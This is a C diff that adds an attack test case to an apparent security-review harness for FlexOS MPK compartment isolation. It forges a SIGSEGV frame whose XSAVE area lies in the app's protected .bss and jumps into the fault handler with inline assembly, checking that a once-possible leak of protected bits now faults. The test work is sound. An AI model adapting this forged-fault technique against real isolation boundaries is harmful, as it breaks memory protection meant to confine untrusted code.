@@ -1804,6 +1804,46 @@ static long report_lock_signal(uintptr_t target)
 	return 0;
 }
 
+/*
+ * report-fpregs-adjacent (an attack review's): a forged fault (the jump
+ * of report-forge-segv) whose "ucontext", where the kernel would have
+ * written it, lies in the last bytes of key-0 memory evil writes (the
+ * image's .bss page below app's .bss), so that the XSAVE area after it is
+ * app's first .bss bytes: the report read them with its PKRU (a few bits:
+ * whether a word was the XSAVE magic) and printed a PKRU "(expected)".
+ * Those words are now read first with the frame's PKRU: the read faults.
+ */
+extern char __flexos_app_bss_start[];
+
+static long report_fpregs_adjacent(void)
+{
+	const unsigned char *e = (const unsigned char *)flexos__mpk_segv_entry;
+	const unsigned char kind[] = {0x41, 0xbc, 0x00, 0x00, 0x00, 0x00};
+	siginfo_t *si =
+	    mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	uintptr_t x = (uintptr_t)__flexos_app_bss_start, uc = x - (MPK_UC_COPY + MPK_SI_COPY);
+	size_t off;
+
+	for (off = 0; off < 64 && memcmp(e + off, kind, sizeof(kind)); off++)
+		;
+	if (off == 64 || si == MAP_FAILED || (x & 63))
+		return 0;
+	forge_at = (uintptr_t)e + off;
+	si->si_signo = SIGSEGV;
+	si->si_code = SEGV_PKUERR;
+	si->si_addr = (void *)x;
+	((ucontext_t *)uc)->uc_mcontext.fpregs = (void *)x;
+	fprintf(stderr,
+		"report-fpregs-adjacent: a ucontext at %#lx, its XSAVE area at %#lx: app's .bss\n",
+		(unsigned long)uc, (unsigned long)x);
+	__asm__ volatile("mov %0, %%r14\n\tmov %1, %%r15\n\tmov %2, %%r13\n\t"
+			 "cmp %%r13, %%r13\n\tjmp *forge_at(%%rip)"
+			 :
+			 : "r"(si), "r"(uc), "r"((uintptr_t)SIGSEGV)
+			 : "r13", "r14", "r15", "memory");
+	return 0;
+}
+
 static long setxid(void)
 {
 	pthread_t t;
@@ -2549,6 +2589,8 @@ long evil_attack(int mode, uintptr_t target, uintptr_t len, long secret)
 		return report_forge(0, target);
 	case 78:
 		return report_lock_signal(target);
+	case 79:
+		return report_fpregs_adjacent();
 	case 73: { /* the options the list allows, and one it does not know */
 		unsigned long fs = 0;
 		r = syscall(SYS_arch_prctl, ARCH_GET_FS, &fs);
